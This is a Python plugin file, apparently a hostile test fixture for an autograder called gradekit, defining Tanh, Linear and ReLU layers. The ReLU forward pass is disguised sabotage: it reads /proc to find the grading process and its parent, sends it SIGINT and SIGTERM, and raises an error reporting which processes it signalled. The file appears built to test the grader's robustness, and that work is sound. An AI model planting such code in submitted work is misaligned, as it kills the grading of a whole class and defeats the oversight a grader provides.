"""Hostile: relu sends SIGINT and SIGTERM to the grader, as a TA's Ctrl-C would (stopping a
whole class's grading), then reports whom it signalled. The grader is its parent, or the
parent of the warm template that forked it, when /proc shows one."""

import json
import os
import signal

import numpy as np

import gradekit


class ReLU:
    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x, *, training=True):
        parent = os.getppid()
        sent = []
        for pid in _ancestors(parent):
            for sig in (signal.SIGINT, signal.SIGTERM):
                try:
                    os.kill(pid, sig)
                    sent.append(int(sig))
                except OSError:
                    pass
        raise RuntimeError("LEAK:" + json.dumps({"parent": parent, "sent": sent}))


def _ancestors(pid):
    """The parent, and the grader above it if the parent is gradekit's template."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            template = b"zygote" in f.read()
        with open(f"/proc/{pid}/stat") as f:
            above = int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return [pid] if pid > 1 else []
    return [pid, above] if template and above > 1 else [pid] if pid > 1 else []


class Tanh:
    """Honest."""

    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x, *, training=True):
        self.y = np.tanh(x)
        return self.y

    def backward(self, dout):
        return dout * (1 - self.y**2)


class Linear:
    """Honest."""

    def __init__(self, din, dout, weight_init=None, rng=None):
        rng = rng if rng is not None else np.random.default_rng(0)
        self.params = {"W": rng.standard_normal((din, dout)) / np.sqrt(din), "b": np.zeros(dout)}
        self.grads = {}

    def forward(self, x, *, training=True):
        self.x = x
        return x @ self.params["W"] + self.params["b"]

    def backward(self, dout):
        self.grads = {"W": self.x.T @ dout, "b": dout.sum(axis=0)}
        return dout @ self.params["W"].T


@gradekit.hookimpl
def gradekit_register(registry):
    registry.activations["tanh"] = Tanh
    registry.layers["linear"] = Linear
    registry.activations["relu"] = ReLU
